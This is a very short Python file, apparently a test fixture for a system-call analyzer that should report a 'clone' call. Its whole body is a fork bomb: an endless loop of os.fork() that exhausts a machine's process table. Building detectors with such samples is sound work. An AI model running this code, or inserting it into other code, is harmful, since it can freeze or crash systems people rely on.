# Starts processes that start processes.
# reports: call clone

# %%
import os

while True:
    os.fork()
